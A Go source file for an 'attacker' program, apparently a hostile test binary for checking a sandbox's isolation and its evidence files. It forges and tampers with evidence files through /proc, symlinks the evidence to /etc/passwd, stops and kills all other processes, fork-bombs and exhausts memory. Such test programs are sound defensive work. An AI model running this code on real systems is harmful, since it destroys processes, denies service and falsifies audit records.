// Command attacker is an application that tries to forge its evidence, to outlive its run and to take all of the machine.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"strconv"
	"syscall"
	"time"
)

func main() {
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
	for _, attack := range os.Args[1:] {
		switch attack {
		case "forge":
			forge()
		case "stop":
			others(func(pid int) { _ = syscall.Kill(pid, syscall.SIGSTOP) })
		case "sleep":
			time.Sleep(time.Hour)
		case "forks":
			forks()
		case "memory":
			memory()
		}
	}
}

// forge writes evidence of its own and ends the process that writes the true one.
func forge() {
	forged := []byte(`{"schema":"slim/evidence/v1","runs":[{"name":"default","kind":"server","argv":["/attacker"],"answers":[]}]}`)
	others(func(pid int) {
		dir := "/proc/" + strconv.Itoa(pid)
		say("mem", open(dir+"/mem", os.O_RDWR))
		say("root", os.WriteFile(dir+"/root/.slim/out/evidence.json", forged, 0o644))
		say("oom", os.WriteFile(dir+"/oom_score_adj", []byte("1000"), 0))
	})
	say("move", os.Rename("/.slim", "/moved"))
	for _, name := range []string{"evidence.json", "evidence.json.part", "seal", "run-id"} {
		say(name, os.WriteFile("/.slim/out/"+name, forged, 0o644))
	}
	say("directory", os.Mkdir("/.slim/out/evidence.json", 0o755))
	say("link", os.Symlink("/etc/passwd", "/.slim/out/evidence.json"))
	dir, err := os.Open("/.slim/out")
	say("list", err)
	if err == nil {
		say("at", open("/proc/self/fd/"+strconv.Itoa(int(dir.Fd()))+"/evidence.json", os.O_CREATE|os.O_WRONLY))
	}
	others(func(pid int) { say("kill", syscall.Kill(pid, syscall.SIGKILL)) })
	say("kill all", syscall.Kill(-1, syscall.SIGKILL))
}

// others calls f for every other process.
func others(f func(pid int)) {
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		if pid, err := strconv.Atoi(entry.Name()); err == nil && pid != os.Getpid() {
			f(pid)
		}
	}
}

func open(name string, flags int) error {
	f, err := os.OpenFile(name, flags, 0o644)
	if err == nil {
		f.Close()
	}
	return err
}

func say(what string, err error) {
	fmt.Println(what, err == nil)
}

// forks starts processes without end, each of which does the same.
func forks() {
	for {
		cmd := exec.Command("/attacker", "forks")
		if cmd.Start() != nil {
			time.Sleep(10 * time.Millisecond)
		}
	}
}

// memory takes 64 MiB at a time without end.
func memory() {
	var all [][]byte
	for {
		block := make([]byte, 64<<20)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		all = append(all, block)
		if len(all) == 1<<20 {
			return
		}
	}
}
